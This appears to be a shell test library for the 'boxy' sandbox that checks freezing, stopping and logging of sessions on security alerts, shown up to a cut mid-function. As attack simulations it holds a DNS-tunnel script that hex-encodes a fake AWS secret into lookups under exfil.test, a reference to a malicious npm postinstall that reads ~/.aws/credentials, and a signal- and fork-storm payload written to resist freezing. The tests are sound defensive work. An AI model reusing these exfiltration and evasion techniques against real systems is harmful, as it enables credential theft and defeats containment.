# tests/lib/react.sh — the cases of --on-alert, --on-denials, boxy resume and
# boxy stop on a frozen session (doc/react.md), shared by tests/e2e/react.sh
# (the SIGSTOP sweep) and tests/e2e/react-cgroup.sh (the cgroup freezer).
# Sourced after tests/lib/harness.sh and tests/lib/testnet.sh, inside the
# test network.
#
# react_setup           the byte sink (TCP 9000 on www.example.test) and helpers
# react_cases MECH      every case; MECH ("SIGSTOP" or "cgroup") is the freezer
#                       the freeze record must name, and how stopped is checked

# A DNS tunnel as a stealer's postinstall makes one: a credentials file,
# hex-encoded, 60 characters a label, one getent per chunk under exfil.test
# (the third long-label query raises the net.dns alert). "progress" holds the
# chunk in flight, "done" at the end.
REACT_TUNNEL='yes "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY" |
		head -n 8 >creds
	i=0
	for chunk in $(od -An -tx1 -v creds | tr -d " \n" | fold -w 60); do
		echo "$i" >progress
		getent hosts "$chunk.$i.exfil.test" >/dev/null
		i=$((i + 1))
	done
	echo done >progress'
REACT_CHUNKS=18

# The byte sink: every connection's bytes added to one total, written to
# $TN/sink.bytes every 20 ms, and each connection counted in $TN/sink.conns.
REACT_SINK='
import socket, sys, threading, time
addr, port, out = sys.argv[1], int(sys.argv[2]), sys.argv[3]
total = [0]; conns = [0]; lock = threading.Lock()
def serve(c):
    while True:
        try:
            d = c.recv(65536)
        except OSError:
            d = b""
        if not d:
            c.close()
            return
        with lock:
            total[0] += len(d)
def write():
    while True:
        with lock:
            t, n = total[0], conns[0]
        with open(out + ".tmp", "w") as f:
            f.write("%d %d\n" % (t, n))
        import os
        os.replace(out + ".tmp", out)
        time.sleep(0.02)
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind((addr, port)); s.listen(64)
threading.Thread(target=write, daemon=True).start()
while True:
    c, _ = s.accept()
    with lock:
        conns[0] += 1
    threading.Thread(target=serve, args=(c,), daemon=True).start()
'

# react_other_agent_start (as root): the agent of another uid (tests/lib/other-uid-agent.py)
# as BOXY_TEST_OTHER_USER (boxytest2, created when missing); its socket in $REACT_AGENT_DIR.
react_other_agent_start() {
	local other=${BOXY_TEST_OTHER_USER:-boxytest2}
	if ! id "$other" >/dev/null 2>&1; then
		echo "react: creating a second unprivileged user $other (useradd -M)" >&2
		useradd -M -s /usr/sbin/nologin "$other" || harness_die "useradd $other failed"
	fi
	REACT_AGENT_DIR=$(mktemp -d /tmp/boxy-other-uid.XXXXXX) || harness_die "mktemp failed"
	HARNESS_DIRS+=("$REACT_AGENT_DIR")
	chown "$other" "$REACT_AGENT_DIR" && chmod 0755 "$REACT_AGENT_DIR"
	runuser -u "$other" -- python3 - "$REACT_AGENT_DIR/agent.sock" $$ \
		<"$BOXY_SRCDIR/tests/lib/other-uid-agent.py" &
	for _ in $(seq 50); do [ -S "$REACT_AGENT_DIR/agent.sock" ] && break; sleep 0.1; done
}

# react_cgroup_delegate (as root): a cgroup v2 subtree of the suite's own,
# delegated to the test user as systemd would delegate one (the directory and
# its cgroup.procs, cgroup.threads and cgroup.subtree_control are the user's),
# with this shell moved into it, so the test user's daemon makes the runs'
# cgroups below it and freezes them with cgroup.freeze. Undone at exit.
react_cgroup_delegate() {
	local user=${BOXY_TEST_USER:-boxytest} mnt
	mnt=$(awk '$3 == "cgroup2" { print $2; exit }' /proc/self/mounts)
	[ -n "$mnt" ] || harness_die "no cgroup2 hierarchy is mounted"
	REACT_CG=$mnt/boxy-react-$$
	mkdir "$REACT_CG" || harness_die "cannot create $REACT_CG"
	chown "$user" "$REACT_CG" "$REACT_CG/cgroup.procs" "$REACT_CG/cgroup.threads" \
		"$REACT_CG/cgroup.subtree_control" || harness_die "cannot delegate $REACT_CG"
	echo $$ >"$REACT_CG/cgroup.procs" || harness_die "cannot move the suite into $REACT_CG"
	REACT_CG_PARENT=$mnt
	trap 'react_cgroup_undo; harness_cleanup' EXIT
}

# Back to the parent cgroup, and the subtree removed (the runs' cgroups first).
react_cgroup_undo() {
	local d
	[ -n "${REACT_CG:-}" ] || return 0
	echo $$ >"$REACT_CG_PARENT/cgroup.procs" 2>/dev/null
	for d in "$REACT_CG"/*/; do
		[ -d "$d" ] && rmdir "$d" 2>/dev/null
	done
	rmdir "$REACT_CG" 2>/dev/null
	return 0
}

react_setup() {
	mkdir -p "$TN/cases" && chmod 0777 "$TN/cases"
	cc -O2 -pthread -o "$TN/react-cont" "$BOXY_SRCDIR/tests/lib/react-cont.c" 2>"$TN/react-cont.log" ||
		harness_die "cannot build tests/lib/react-cont.c: $(head -n 3 "$TN/react-cont.log")"
	chmod 0755 "$TN/react-cont"
	tn_start sink python3 -u -c "$REACT_SINK" "$TN_HTTP" 9000 "$TN/sink.bytes"
	tn_wait_tcp "$TN_HTTP" 9000
}

sink_bytes() { cut -d' ' -f1 "$TN/sink.bytes" 2>/dev/null || echo 0; }

# rx_start NAME BOXY-RUN-ARGS...: `boxy run` in the background in a fresh case
# directory; C the directory, RX_PID the client, its status in $C/rc when done.
rx_start() {
	C=$TN/cases/$1
	shift
	mkdir -p "$C" && cp "$TN/tls/ca.pem" "$C/ca.pem" && chmod -R a+rwX "$C"
	REACT_QMARK=$(wc -l <"$TN/dns.queries")
	(cd "$C" && tn_boxy run --audit-log "$C/audit" "$@" >"$C/out" 2>"$C/err" </dev/null
	 echo $? >"$C/rc") &
	RX_PID=$!
	RC=-1
}

# rx_wait [SECONDS]: wait for the background client to end; RC its status (-1: still running).
rx_wait() {
	local i
	for i in $(seq 1 $((${1:-30} * 10))); do
		[ -s "$C/rc" ] && break
		sleep 0.1
	done
	RC=$(cat "$C/rc" 2>/dev/null || echo -1)
	[ "$RC" != -1 ] && wait "$RX_PID" 2>/dev/null
	return 0
}

# session_where MARK: the id of the running (or frozen) session whose command holds MARK.
session_where() {
	tn_boxy ps --json 2>/dev/null | python3 -c '
import json, sys
try:
    rows = json.load(sys.stdin)
except ValueError:
    rows = []
for s in rows:
    if sys.argv[1] in " ".join(s.get("argv", [])):
        print(s["id"]); break' "$1"
}

# state_of ID: the session's state as boxy ps -a --json says it.
state_of() {
	[ -n "$1" ] || return 0
	tn_boxy ps -a --json 2>/dev/null | python3 -c '
import json, sys
try:
    rows = json.load(sys.stdin)
except ValueError:
    rows = []
for s in rows:
    if s["id"].startswith(sys.argv[1]):
        print(s["state"]); break' "$1"
}

# wait_state ID STATE [SECONDS]: until the session is in STATE; false when it never was.
wait_state() {
	local i
	for i in $(seq 1 $((${3:-20} * 10))); do
		[ "$(state_of "$1")" = "$2" ] && return 0
		sleep 0.1
	done
	return 1
}

# wait_session MARK [SECONDS]: ID of the session running MARK, once it is in the store.
wait_session() {
	local i
	ID=
	for i in $(seq 1 $((${2:-20} * 10))); do
		ID=$(session_where "$1")
		[ -n "$ID" ] && return 0
		sleep 0.1
	done
	return 1
}

# ns_tasks DIR: one line per thread of the sandbox whose payload runs in DIR
# (a case directory: its work directory), boxy-init's left out: "PID TID STATE
# CPU" (CPU: utime+stime ticks). Found by the pid namespace of a process whose
# working directory is DIR; another suite's sandbox never matches.
ns_tasks() {
	python3 - "$1" <<'EOF2'
import os, sys
where = os.path.realpath(sys.argv[1])
def ns(p):
    try:
        return os.readlink("/proc/%s/ns/pid" % p)
    except OSError:
        return None
def cmd(p):
    try:
        return open("/proc/%s/cmdline" % p, "rb").read()
    except OSError:
        return b""
pids = [p for p in os.listdir("/proc") if p.isdigit()]
mine, target = ns("self"), None
for p in pids:
    try:
        if os.readlink("/proc/%s/cwd" % p) == where and not cmd(p).startswith(b"boxy"):
            n = ns(p)
            if n and n != mine:
                target = n
                break
    except OSError:
        pass
if target is None:
    sys.exit(0)
for p in pids:
    if ns(p) != target or cmd(p).startswith(b"boxy-init"):
        continue
    try:
        for t in os.listdir("/proc/%s/task" % p):
            st = open("/proc/%s/task/%s/stat" % (p, t)).read()
            f = st[st.rindex(")") + 2:].split()
            print(p, t, f[0], int(f[11]) + int(f[12]))
    except (OSError, ValueError):
        pass
EOF2
}

# frozen_check DIR MECH: every thread of the sandbox running in DIR is stopped
# (SIGSTOP: state T, t, D or Z; cgroup: none is R) in three looks 0.5 s apart,
# the same threads each time (nothing forked) and none used CPU time in
# between. Sets WHY, NTASKS.
frozen_check() {
	local a b c bad
	a=$(ns_tasks "$1" | sort)
	sleep 0.5
	b=$(ns_tasks "$1" | sort)
	sleep 0.5
	c=$(ns_tasks "$1" | sort)
	WHY=
	if [ -z "$a" ]; then
		WHY="no process of the sandbox found"
		return 1
	fi
	if [ "$2" = SIGSTOP ]; then
		bad=$(printf '%s\n' "$c" | awk '$3 !~ /^[TtDZ]$/')
	else
		bad=$(printf '%s\n' "$c" | awk '$3 == "R"')
	fi
	if [ -n "$bad" ]; then
		WHY="threads not stopped: $(printf '%s' "$bad" | head -n 5 | tr '\n' ';')"
		return 1
	fi
	if [ "$a" != "$b" ] || [ "$b" != "$c" ]; then
		WHY="the threads changed (forks, CPU time): $(diff <(echo "$a") <(echo "$c") | head -n 6 | tr '\n' ';')"
		return 1
	fi
	NTASKS=$(printf '%s\n' "$c" | wc -l)
	return 0
}

# The resolver's questions since the case began (rx_start marks where).
case_queries() { tail -n +$((REACT_QMARK + 1)) "$TN/dns.queries" 2>/dev/null; }
# exfil_logged: the exfil.test questions the test resolver has seen in this case.
exfil_logged() { case_queries | grep -c 'exfil\.test' || true; }
# exfil_max: the highest chunk index the resolver saw in this case (-1: none).
exfil_max() {
	case_queries | grep -o '\.[0-9]*\.exfil\.test' | tr -dc '0-9\n' |
		sort -n | tail -n 1 | grep . || echo -1
}

# decisions ID LAYER SUBJECT: how many decision rows the store has of that layer and subject.
decisions() {
	tn_boxy show "$1" --json 2>/dev/null | python3 -c '
import json, sys
try:
    d = json.load(sys.stdin)
except ValueError:
    d = {}
print(sum(r.get("count", 1) for r in d.get("decisions", [])
          if r.get("layer") == sys.argv[1] and r.get("subject") == sys.argv[2]))' "$2" "$3"
}
# decision_text ID LAYER SUBJECT: their reasons, one a line.
decision_text() {
	tn_boxy show "$1" --json 2>/dev/null | python3 -c '
import json, sys
try:
    d = json.load(sys.stdin)
except ValueError:
    d = {}
for r in d.get("decisions", []):
    if r.get("layer") == sys.argv[1] and r.get("subject") == sys.argv[2]:
        print(r.get("reason"))' "$2" "$3"
}

# audit_id: the session id the case's audit log names.
audit_id() { grep -o '"session":"[0-9a-f]*"' "$C/audit" 2>/dev/null | head -n 1 | cut -d'"' -f4; }

# rx_fail NAME WHY...: a failing case with its evidence (fail_case's, and the session's record).
rx_fail() {
	fail_case "$@"
	[ -n "${ID:-}" ] && tn_boxy show "$ID" 2>&1 | head -n 25 | sed 's/^/#   show| /'
	return 0
}

# The cases, for the freezer MECH.
react_cases() {
	local mech=$1 q0 q1 k before after s1 s2 b
	# ---- a tunnel frozen, looked at, resumed ---------------------------------------
	rx_start tunnel-freeze --net public --on-alert dns=freeze -- sh -c "$REACT_TUNNEL"
	if wait_session exfil.test && wait_state "$ID" frozen; then
		k=$(cat "$C/progress")
		q0=$(exfil_logged)
		sleep 2
		q1=$(exfil_logged)
		if [ "$q0" = "$q1" ] && [ "$(exfil_max)" -lt "$k" ] && [ "$k" -lt "$REACT_CHUNKS" ]; then
			ok "$mech: a DNS tunnel is frozen before its next query leaves: none after the freeze reached the resolver (stopped at chunk $k of $REACT_CHUNKS)"
		else
			rx_fail "$mech: a DNS tunnel is frozen before its next query leaves" \
				"chunk in flight $k, resolver saw up to chunk $(exfil_max), $q0 then $q1 questions"
		fi
	else
		rx_fail "$mech: a DNS tunnel is frozen before its next query leaves" "never frozen (ID '$ID')"
	fi
	s1=${ID:0:8}
	if kill -0 "$RX_PID" 2>/dev/null && [ ! -s "$C/rc" ] &&
		grep -q "^boxy: session $s1 frozen: dns: exfil.test: DNS under exfil.test looks like a tunnel" "$C/err" &&
		grep -q "decide: boxy resume $s1 / boxy stop $s1" "$C/err"; then
		ok "$mech: boxy run says the session is frozen, why, and how to decide, and keeps waiting"
	else
		rx_fail "$mech: boxy run says the session is frozen, why, and how to decide, and keeps waiting"
	fi
	if frozen_check "$C" "$mech"; then
		ok "$mech: every thread of the sandbox is stopped ($NTASKS), none forks or runs"
	else
		rx_fail "$mech: every thread of the sandbox is stopped" "$WHY"
	fi
	if tn_boxy ps | grep -q "^$s1  frozen " &&
		tn_boxy show "$ID" | grep -q "^session .*  frozen since " &&
		tn_boxy show "$ID" | grep -q "^frozen    dns: exfil.test: DNS under exfil.test looks like a tunnel" &&
		tn_boxy show "$ID" | grep -q "decide: boxy resume $s1 / boxy stop $s1" &&
		tn_boxy show "$ID" --json | grep -q '"frozen_reason":"dns: exfil.test: DNS under' &&
		tn_boxy top --json | grep -q "\"id\":\"$ID\",\"state\":\"frozen\"" &&
		tn_boxy top | grep "${ID:0:8}" | grep -q frozen &&
		decision_text "$ID" react freeze | grep -q "frozen .* ms after the alert ($mech"; then
		ok "$mech: boxy ps, show, show --json and top say it is frozen and why; the freeze is recorded"
	else
		rx_fail "$mech: boxy ps, show, show --json and top say it is frozen and why; the freeze is recorded" \
			"ps: $(tn_boxy ps 2>&1 | head -n 3 | tr '\n' ';')" \
			"freeze: $(decision_text "$ID" react freeze)"
	fi
	diag "$mech freeze: $(decision_text "$ID" react freeze | grep -o 'frozen [0-9.]* ms after the alert ([^;]*')"
	out=$(tn_boxy resume "$ID" 2>&1)
	rx_wait 30
	if [ "$out" = "session $s1 resumed" ] && [ "$RC" = 0 ] && [ "$(cat "$C/progress")" = done ] &&
		[ "$(exfil_max)" = $((REACT_CHUNKS - 1)) ] &&
		grep -q "^boxy: session $s1 resumed by boxy resume after" "$C/err" &&
		audit_has react action "resumed by boxy resume"; then
		ok "$mech: boxy resume lets it finish: every chunk reached the resolver, exit 0, resumed on stderr and in the audit log"
	else
		rx_fail "$mech: boxy resume lets it finish" "resume said: $out"
	fi

	react_evil "$mech"
	react_stop_frozen "$mech"
	react_denials "$mech"
	react_on_stop "$mech"
	react_on_log "$mech"
	react_hostile "$mech"
	react_continuers "$mech"
	react_stream "$mech"
	react_neighbour "$mech"
	react_flood "$mech"
	react_timeout "$mech"
	react_spoof "$mech"
	react_daemon_dies "$mech"
}

# Issue 14's "done when": `npm install ./evil.tgz` under the node preset and
# nothing else, whose postinstall reads ~/.aws/credentials and then sends it
# hex-encoded in DNS names (tests/e2e/tripwire-pkgs/evil): frozen at the read —
# the tripwire holds the opener in open() until the freeze is done — so not a
# name leaves; the red event names postinstall of evil-pkg@1.2.3 in boxy run's
# line, watch, show and top; boxy stop ends it.
react_evil() {
	local mech=$1 pkgs=$BOXY_SRCDIR/tests/e2e/tripwire-pkgs w
	mkdir -p "$TN/cases/evil"
	if ! python3 "$pkgs/mkregistry.py" pack "$pkgs/evil" "$TN/cases/evil/evil.tgz" >/dev/null; then
		not_ok "$mech: npm install ./evil.tgz under --profile node is frozen at the read"
		diag "could not pack tests/e2e/tripwire-pkgs/evil"
		return 0
	fi
	rx_start evil --profile node -- npm install ./evil.tgz
	if ! wait_session evil.tgz 30 || ! wait_state "$ID" frozen 90; then
		rx_fail "$mech: npm install ./evil.tgz under --profile node is frozen at the read" \
			"never frozen (ID '$ID', state $(state_of "$ID"))"
		tn_boxy stop "$ID" >/dev/null 2>&1
		rx_wait 20
		return 0
	fi
	sleep 2
	if ! grep -q '^asked ' "$C/evil-sent.txt" 2>/dev/null && [ "$(exfil_logged)" = 0 ] &&
		grep -q "^boxy: session ${ID:0:8} frozen: tripwire: ~/.aws/credentials: .*postinstall of evil-pkg@1.2.3" "$C/err" &&
		frozen_check "$C" "$mech"; then
		ok "$mech: npm install ./evil.tgz under --profile node is frozen at the read: no name of its exfiltration left ($NTASKS threads stopped)"
	else
		rx_fail "$mech: npm install ./evil.tgz under --profile node is frozen at the read" \
			"sent: $(grep -c '^asked ' "$C/evil-sent.txt" 2>/dev/null), resolver: $(exfil_logged)" \
			"${WHY:-}"
	fi
	diag "$mech evil: $(decision_text "$ID" react freeze | grep -o 'frozen [0-9.]* ms after the alert ([^;]*')"
	w=$(tn_user timeout 3 env HOME="$TN/home" XDG_RUNTIME_DIR="$TN/run" \
		XDG_STATE_HOME="$TN/state" "$BOXY" watch "$ID" 2>&1)
	if tn_boxy ps | grep -q "^${ID:0:8}  frozen " &&
		tn_boxy show "$ID" | grep -q "^frozen    tripwire: ~/.aws/credentials: .*postinstall of evil-pkg@1.2.3" &&
		tn_boxy top --json | grep -q '"frozen_reason":"tripwire: ~/.aws/credentials: [^"]*postinstall of evil-pkg@1.2.3' &&
		grep -q 'tripwire alert  *~/.aws/credentials .*postinstall of evil-pkg@1.2.3' <<<"$w" &&
		grep -q 'react.*freeze' <<<"$w"; then
		ok "$mech: boxy ps, show, top and watch say it is frozen by the tripwire, postinstall of evil-pkg@1.2.3 named"
	else
		rx_fail "$mech: boxy ps, show, top and watch say it is frozen by the tripwire" \
			"watch: $(grep -i 'tripwire\|react' <<<"$w" | head -n 4 | tr '\n' ';')"
	fi
	tn_boxy stop "$ID" >/dev/null 2>&1
	rx_wait 20
	sleep 1
	if [ "$RC" = 137 ] && ! grep -q '^asked ' "$C/evil-sent.txt" 2>/dev/null &&
		[ "$(exfil_logged)" = 0 ]; then
		ok "$mech: boxy stop ends it; nothing of the credentials ever reached the resolver"
	else
		rx_fail "$mech: boxy stop ends it; nothing of the credentials ever reached the resolver"
	fi
}

# boxy stop on a frozen tunnel: SIGKILL reaches the stopped processes, the held
# query never leaves, the store keeps the freeze; another user cannot resume it.
react_stop_frozen() {
	local mech=$1 k s1 t0 t1 said
	rx_start tunnel-stop --net public --on-alert dns=freeze -- sh -c "$REACT_TUNNEL"
	if ! wait_session exfil.test || ! wait_state "$ID" frozen; then
		rx_fail "$mech: boxy stop ends a frozen session" "never frozen (ID '$ID')"
		return 0
	fi
	k=$(cat "$C/progress")
	s1=${ID:0:8}
	react_other_user "$mech" "$ID"
	t0=$(date +%s%N)
	said=$(tn_boxy stop "$ID" 2>&1)
	rx_wait 20
	t1=$(date +%s%N)
	sleep 1
	if [ "$RC" = 137 ] && [ "$said" = "session $s1 was frozen: killed with SIGKILL" ] &&
		[ $(((t1 - t0) / 1000000)) -lt 5000 ] && [ "$(exfil_max)" -lt "$k" ] &&
		[ "$(state_of "$ID")" = exited ] &&
		tn_boxy show "$ID" | grep -q "^was frozen dns: exfil.test: DNS under" &&
		audit_has session action "stopped with SIGKILL while frozen"; then
		ok "$mech: boxy stop ends a frozen session at once (SIGKILL, exit 137) and its held query never leaves"
	else
		rx_fail "$mech: boxy stop ends a frozen session at once" "stop said: $said" \
			"took $(((t1 - t0) / 1000000)) ms; chunk in flight $k, resolver saw up to $(exfil_max)"
	fi
}

# react_other_user MECH ID: another local user, reaching the daemon's socket
# (the suite opens its directory for the probe), sends HELLO and RESUME ID: it
# is dropped before either is read, and the session stays frozen.
react_other_user() {
	local mech=$1 id=$2 build said
	if [ -z "${OTHER_UID_AGENT:-}" ] || [ ! -S "$OTHER_UID_AGENT" ]; then
		not_ok "$mech: another user cannot resume a frozen session"
		diag "no agent of another uid: run the suite as root (it starts one as boxytest2)"
		return 0
	fi
	build=$(tn_boxy --version | sed -n 's/.*(build \(.*\))$/\1/p')
	chmod 0711 "$TN/run/boxy" && chmod 0666 "$TN/run/boxy/daemon.sock"
	said=$(printf '%s\t%s\t%s\n' "$TN/run/boxy/daemon.sock" "$build" "$id" |
		python3 -c '
import socket, sys
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.connect(sys.argv[1]); s.sendall(sys.stdin.buffer.read()); s.settimeout(10)
print(s.recv(256).decode().strip())' "$OTHER_UID_AGENT")
	chmod 0700 "$TN/run/boxy" && chmod 0600 "$TN/run/boxy/daemon.sock"
	sleep 1
	if [ "$said" = refused ] && [ "$(state_of "$id")" = frozen ]; then
		ok "$mech: another user's HELLO and RESUME are dropped unread; the session stays frozen"
	else
		rx_fail "$mech: another user cannot resume a frozen session" "the agent said: $said"
	fi
}

# --on-denials 3: allowlist mode, names refused one after another; frozen at the third.
react_denials() {
	local mech=$1 n
	rx_start denials --net allowlist --allow-host www.example.test --on-denials 3 \
		--on-alert denials=freeze -- sh -c '
		for i in 1 2 3 4 5 6 7 8; do
			echo "$i" >progress; getent ahostsv4 "refused$i.example.test"
		done
		echo done >progress'
	if wait_session refused && wait_state "$ID" frozen; then
		sleep 1
		n=$(cat "$C/progress")
		if [ "$n" = 3 ] && [ "$(decisions "$ID" react freeze)" = 1 ] &&
			tn_boxy show "$ID" | grep -q "^frozen    denials: refusal 3 reached --on-denials 3; the last: net.dns refused3.example.test" &&
			! grep -q 'refused[4-8]' "$TN/dns.queries"; then
			ok "$mech: --on-denials 3 freezes the session at the third refusal"
		else
			rx_fail "$mech: --on-denials 3 freezes the session at the third refusal" \
				"progress $n; freeze: $(decision_text "$ID" react freeze)"
		fi
	else
		rx_fail "$mech: --on-denials 3 freezes the session at the third refusal" "never frozen"
	fi
	tn_boxy stop "$ID" >/dev/null 2>&1
	rx_wait 20
}

# --on-alert stop: the tunnel is killed at the alert, its query never leaves.
react_on_stop() {
	local mech=$1 k
	rx_start on-stop --net public --on-alert stop -- sh -c "$REACT_TUNNEL"
	rx_wait 30
	ID=$(audit_id)          # killed at once: boxy ps may never have seen it running
	k=$(cat "$C/progress" 2>/dev/null)
	sleep 1
	if [ "$RC" = 137 ] && [ "$k" != done ] && [ "$(exfil_max)" -lt "$k" ] &&
		grep -q "^boxy: stopped on an alert: dns: exfil.test: DNS under exfil.test looks like a tunnel" "$C/err" &&
		audit_has react action "stopped with SIGKILL (exit 137)" &&
		[ "$(state_of "$ID")" = exited ]; then
		ok "$mech: --on-alert stop kills the session at the alert (exit 137, the reason on stderr), its query never leaves"
	else
		rx_fail "$mech: --on-alert stop kills the session at the alert" \
			"chunk in flight $k, resolver saw up to $(exfil_max)"
	fi
}

# --on-alert log: the same tunnel runs to its end, as without any reaction; only the record differs.
react_on_log() {
	local mech=$1 frozen=no i
	: >"$TN/dns.queries.log-case"
	rx_start on-log --net public --on-alert log -- sh -c "$REACT_TUNNEL"
	wait_session exfil.test 10
	for i in $(seq 1 40); do
		[ "$(state_of "$ID")" = frozen ] && frozen=yes
		[ -s "$C/rc" ] && break
		sleep 0.1
	done
	rx_wait 30
	ID=$(audit_id)
	if [ -n "$ID" ] && [ "$RC" = 0 ] && [ "$frozen" = no ] && [ "$(cat "$C/progress")" = done ] &&
		grep -q '^boxy: ALERT: net.dns: exfil.test' "$C/err" && ! grep -q 'frozen' "$C/err" &&
		audit_has react info "logged (--on-alert log)" && ! audit_has react action "" &&
		[ "$(decisions "$ID" react freeze)" = 0 ]; then
		ok "$mech: --on-alert log changes nothing but the record: the tunnel runs to its end, the alert and the decision are recorded"
	else
		rx_fail "$mech: --on-alert log changes nothing but the record" "seen frozen: $frozen" \
			"progress $(cat "$C/progress" 2>/dev/null); freezes $(decisions "$ID" react freeze)" \
			"react rows: $(grep -c '"layer":"react"' "$C/audit" 2>/dev/null)" \
			"$(grep '"layer":"react"' "$C/audit" | cut -c1-160)"
	fi
}

# A payload that fights the freeze: a fork storm, a vfork storm, handlers for
# every signal it may catch, threads that unblock SIGCONT and send it to every
# process of the sandbox and to its init, SIGTSTP to the payload (which boxy-init
# would answer with SIGCONT), and a process it stopped itself. Every thread stopped.
REACT_HOSTILE='
import os, signal, threading, time
main = int(os.environ["MAIN"])
for s in range(1, 65):
    try:
        signal.signal(s, signal.SIG_IGN if s in (signal.SIGCONT, signal.SIGTSTP,
                      signal.SIGTTIN, signal.SIGTTOU) else (lambda *a: None))
    except (OSError, ValueError, RuntimeError):
        pass
def wake():
    signal.pthread_sigmask(signal.SIG_UNBLOCK, [signal.SIGCONT])
    while True:
        for pid, sig in ((-1, signal.SIGCONT), (1, signal.SIGCONT), (main, signal.SIGTSTP),
                         (main, signal.SIGCONT)):
            try:
                os.kill(pid, sig)
            except OSError:
                pass
def spawn():
    while True:
        try:
            os.waitpid(os.posix_spawn("/bin/true", ["true"], {}), 0)
        except OSError:
            time.sleep(0.01)
for f in (wake, wake, wake, spawn):
    threading.Thread(target=f, daemon=True).start()
open("hostile.ready", "w").close()
while True:
    pass
'
react_hostile() {
	local mech=$1
	mkdir -p "$TN/cases/hostile" && printf '%s' "$REACT_HOSTILE" >"$TN/cases/hostile/hostile.py"
	rx_start hostile --net public --pids 300 --on-alert dns=freeze -- sh -c '
		MAIN=$$ python3 hostile.py 2>/dev/null &
		sleep 1000 & kill -STOP $!
		( while :; do sh -c "sleep 0.3" & sleep 0.01; done ) 2>/dev/null &
		while [ ! -e hostile.ready ]; do sleep 0.05; done
		sleep 0.5
		'"$REACT_TUNNEL"
	if wait_session exfil.test 15 && wait_state "$ID" frozen 30; then
		if frozen_check "$C" "$mech"; then
			ok "$mech: a fork storm, a vfork storm, signal handlers, SIGCONT and SIGTSTP senders and a stopped process: all $NTASKS threads stopped, none forks or runs"
		else
			rx_fail "$mech: a payload fighting the freeze is frozen whole" "$WHY"
		fi
	else
		rx_fail "$mech: a payload fighting the freeze is frozen whole" "never frozen (ID '$ID')"
	fi
	diag "$mech hostile freeze: $(decision_text "$ID" react freeze | grep -o 'frozen [0-9.]* ms after the alert ([^;]*')"
	tn_boxy stop "$ID" >/dev/null 2>&1
	rx_wait 20
}

# Eight processes of three threads, each a tight loop of SIGCONT to every other
# process and to boxy-init (tests/lib/react-cont.c): the freeze either takes
# them all, or — when a SIGSTOP sweep cannot converge within its 2 s — the
# session is killed and says why. Never left running, and nothing leaves.
react_continuers() {
	local mech=$1 i st k outcome=
	mkdir -p "$TN/cases/continuers" && cp "$TN/react-cont" "$TN/cases/continuers/"
	rx_start continuers --net public --on-alert dns=freeze -- sh -c '
		./react-cont 8 fighting &
		while [ ! -e fighting ]; do sleep 0.05; done
		sleep 0.5
		'"$REACT_TUNNEL"
	wait_session exfil.test 15
	for i in $(seq 1 100); do
		st=$(state_of "$ID")
		[ "$st" = frozen ] || [ "$st" = exited ] && break
		sleep 0.1
	done
	k=$(cat "$C/progress" 2>/dev/null)
	sleep 1
	if [ "$st" = frozen ] && frozen_check "$C" "$mech"; then
		outcome="frozen: all $NTASKS threads stopped"
	elif [ "$st" = exited ] || wait_state "$ID" exited 5; then
		rx_wait 10
		[ "$RC" = 137 ] && audit_has react action "could not be frozen" &&
			outcome="could not be frozen within 2 s: killed (exit 137)"
	fi
	if [ -n "$outcome" ] && [ "$k" != done ] && [ "$(exfil_max)" -lt "$k" ]; then
		ok "$mech: processes that SIGCONT each other in tight loops do not outrun the freeze ($outcome)"
	else
		rx_fail "$mech: processes that SIGCONT each other in tight loops do not outrun the freeze" \
			"state $st; ${WHY:-}; chunk in flight $k, resolver saw up to $(exfil_max)"
	fi
	diag "$mech continuers: $(decision_text "$ID" react freeze | grep -o 'frozen [0-9.]* ms after the alert ([^;]*')"
	tn_boxy stop "$ID" >/dev/null 2>&1
	rx_wait 20
}

# A stream to the sink in flight at the freeze: it stops moving, and nothing it
# held reaches the sink, not even when the frozen session is killed.
react_stream() {
	local mech=$1 b0 b1 b2 b3
	rx_start stream --net public --on-alert dns=freeze -- sh -c '
		python3 -c "
import socket, time
s = socket.create_connection((\"'"$TN_HTTP"'\", 9000))
open(\"streaming\", \"w\").close()
b = b\"x\" * 65536
while True:
    s.sendall(b)
    time.sleep(0.005)" &
		while [ ! -e streaming ]; do sleep 0.05; done
		sleep 1
		'"$REACT_TUNNEL"
	b0=$(sink_bytes)
	if wait_session exfil.test 15 && wait_state "$ID" frozen 30; then
		sleep 0.5
		b1=$(sink_bytes)
		sleep 2
		b2=$(sink_bytes)
		tn_boxy stop "$ID" >/dev/null 2>&1
		rx_wait 20
		sleep 1
		b3=$(sink_bytes)
		if [ "$b1" -gt "$b0" ] && [ "$b1" = "$b2" ] && [ "$b2" = "$b3" ]; then
			ok "$mech: a stream in flight stops at the freeze; nothing it held reaches the upstream, even at the kill ($b1 bytes before)"
		else
			rx_fail "$mech: a stream in flight stops at the freeze" \
				"sink: $b0 at the start, $b1 and $b2 frozen, $b3 after the kill"
		fi
	else
		rx_fail "$mech: a stream in flight stops at the freeze" "never frozen (ID '$ID')"
		tn_boxy stop "$ID" >/dev/null 2>&1
		rx_wait 20
	fi
}

# count_now FILE: the neighbour's count. Its `echo $i >count` truncates before it
# writes, so a read can land in between and see nothing (react-cgroup 18 under
# ASan once): read again, a moment later, until there is something.
count_now() {
	local v _
	for _ in 1 2 3 4 5 6 7 8 9 10; do
		v=$(cat "$1" 2>/dev/null)
		[ -n "$v" ] && break
		sleep 0.02
	done
	printf '%s' "$v"
}

# Another session, running next to a frozen one, runs on.
react_neighbour() {
	local mech=$1 a b c1 c2 bid
	C=$TN/cases/neighbour-b
	mkdir -p "$C" && chmod a+rwX "$C"
	bid=$(cd "$C" && tn_boxy run -d --net none -- sh -c \
		'i=0; while [ $i -lt 60 ]; do i=$((i + 1)); echo $i >count; sleep 0.1; done; echo neighbour-done >count' 2>/dev/null)
	# boxy run -d returns once the session is started, not once its payload has
	# written anything: B is running (a count written) before A may freeze.
	for _ in $(seq 1 150); do
		[ -s "$C/count" ] && break
		sleep 0.1
	done
	rx_start neighbour-a --net public --on-alert dns=freeze -- sh -c "$REACT_TUNNEL"
	if wait_session exfil.test 15 && wait_state "$ID" frozen 30; then
		c1=$(count_now "$TN/cases/neighbour-b/count")
		sleep 1
		c2=$(count_now "$TN/cases/neighbour-b/count")
		if [ -n "$bid" ] && [ "$(state_of "$bid")" != frozen ] &&
			{ [ "$c2" = neighbour-done ] || [ "$c2" -gt "$c1" ]; } &&
			wait_state "$bid" exited 15 && [ "$(cat "$TN/cases/neighbour-b/count")" = neighbour-done ]; then
